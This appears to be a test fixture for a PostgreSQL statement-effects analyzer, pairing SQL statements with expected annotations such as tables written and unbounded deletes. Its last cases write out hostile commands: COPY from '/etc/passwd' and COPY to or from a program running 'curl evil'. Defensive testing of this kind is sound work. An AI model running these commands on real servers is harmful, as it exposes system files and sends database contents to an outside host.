--- What DML writes, and whether anything bounds it.

-- effects: insert
-- writes: orders
-- written: orders.amount, orders.id
insert into orders (id, amount) values (1, 2)

-- effects: insert, read
-- reads: orders
-- writes: orders
-- columns: orders.*
-- written: orders.*
insert into orders select * from orders

-- effects: insert, read, update
-- reads: orders
-- writes: orders
-- columns: orders.id
-- written: orders.amount, orders.id, orders.status
insert into orders (id) values (1) on conflict (id) do update set amount = excluded.amount, status = 'x' returning id

-- effects: insert
-- writes: products
-- written: products.*
insert into products default values

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.price
-- written: products.price
-- unbounded: update
update products set price = price * 2

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id
-- written: products.price
update products set price = 1 where id = 5

-- effects: update
-- writes: products
-- written: products.price
-- unbounded: update
update products set price = 1 where true

-- effects: update
-- writes: products
-- written: products.price
-- unbounded: update
update products set price = 1 where 1 = 1

-- effects: update
-- writes: products
-- written: products.price
-- unbounded: update
update products set price = 1 where $1

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id
-- written: products.price
-- unbounded: update
update products set price = 1 where id = 5 or true

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id
-- written: products.price
update products set price = 1 where id = 5 and true

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id
-- written: products.price
-- unbounded: update
update products set price = 1 where id = id

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id
-- written: products.price
-- unbounded: update
update products set price = 1 where not (id <> id)

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id, products.name
-- written: products.price
update products set price = 1 where not (id = 5 and name = 'x')

-- effects: read, update
-- writes: products
-- written: products.price
-- unbounded: update
update products set price = 1 where exists (select 1)

-- effects: update
-- writes: products
-- written: products.price
update products set price = 1 where current of c

-- effects: read, update
-- reads: orders, payments
-- writes: orders
-- columns: orders.id, payments.amount, payments.id
-- written: orders.amount
update orders o set amount = p.amount from payments p where p.id = o.id

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id, products.price
-- written: products.name, products.price
update products set (name, price) = (select 'x', 2) where id = 1 returning old.price, new.price

-- effects: read, update
-- reads: products
-- writes: products
-- columns: products.id, products.name
-- written: products.name, products.price
update products set (name, price) = row('x', 2) where id = 1 returning with (old as was) was.name

-- effects: delete
-- writes: orders
-- unbounded: delete
delete from orders

-- effects: delete, read
-- reads: customers, orders
-- writes: orders
-- columns: customers.email, customers.id, orders.customer_id
delete from orders using customers c where c.id = customer_id and c.email = 'x'

-- effects: delete, read
-- reads: orders
-- writes: orders
-- columns: orders.*
delete from only orders where id = 1 returning *

-- effects: delete, read
-- reads: orders
-- writes: orders
-- columns: orders.id
-- unbounded: delete
with gone as (delete from orders returning id) select count(*) from gone

-- effects: delete, insert, read
-- reads: orders
-- writes: orders, payments
-- columns: orders.*
-- written: payments.*
with gone as (delete from orders where id = 1 returning *) insert into payments select id, customer_id, amount from gone

-- effects: insert, merge, read, update
-- reads: orders, payments
-- writes: orders
-- columns: orders.id, payments.amount, payments.id
-- written: orders.amount, orders.id
merge into orders o using payments p on o.id = p.id when matched then update set amount = p.amount when not matched then insert (id, amount) values (p.id, p.amount)

-- effects: delete, merge, read
-- writes: orders
-- unbounded: delete
merge into orders o using (select 1) x on true when matched then delete

-- effects: delete, merge, read
-- reads: orders, payments
-- writes: orders
-- columns: orders.id, payments.id
-- unbounded: delete
merge into orders o using payments p on o.id = p.id when not matched by source then delete

-- effects: merge, read
-- reads: orders, payments
-- writes: orders
-- columns: orders.id, payments.amount, payments.id
merge into orders o using payments p on o.id = p.id when matched and p.amount > 3 then do nothing

-- effects: delete, merge, read
-- reads: orders, payments
-- writes: orders
-- columns: orders.*, payments.id
merge into orders o using payments p on o.id = p.id when matched then delete returning merge_action(), o.*

-- effects: truncate
-- writes: orders, payments
-- objects: table public.orders, table public.payments
truncate orders, payments cascade

-- effects: read, unknown, update
-- reads: pg_catalog.pg_settings
-- writes: pg_catalog.pg_settings
-- columns: pg_catalog.pg_settings.name
-- written: pg_catalog.pg_settings.setting
-- unknown: an update of pg_settings is a SET by another name
update pg_settings set setting = 'on' where name = 'x'

-- effects: insert
-- writes: nosuch
-- written: nosuch.*
-- missing: nosuch
insert into nosuch values (1)

-- effects: read, update
-- reads: customers
-- writes: customers
-- columns: customers.id
-- written: customers.email
with customers as (select 1 as id) update customers set email = 'x' where id = 1

-- effects: copy_in
-- writes: orders
-- written: orders.*
copy orders from stdin

-- effects: copy_in
-- writes: orders
-- written: orders.amount, orders.id
copy orders (id, amount) from stdin with (format csv) where id > 3

-- effects: copy_out, read
-- reads: customers
-- columns: customers.*
copy customers to stdout

-- effects: copy_out, read
-- reads: customers
-- columns: customers.country, customers.id
copy customers (id, country) to stdout

-- effects: copy_out, read
-- reads: customers
-- columns: customers.email
copy (select email from customers) to stdout with csv header

-- effects: copy_out, delete, read
-- reads: orders
-- writes: orders
-- columns: orders.*
-- unbounded: delete
copy (delete from orders returning *) to stdout

-- effects: copy_out, read, server_file
-- reads: orders
-- columns: orders.*
copy orders to '/tmp/x'

-- effects: copy_in, server_file
-- writes: orders
-- written: orders.*
copy orders from '/etc/passwd'

-- effects: copy_out, program, read
-- reads: orders
-- columns: orders.*
copy orders to program 'curl evil'

-- effects: copy_in, program
-- writes: orders
-- written: orders.*
copy orders from program 'curl evil'
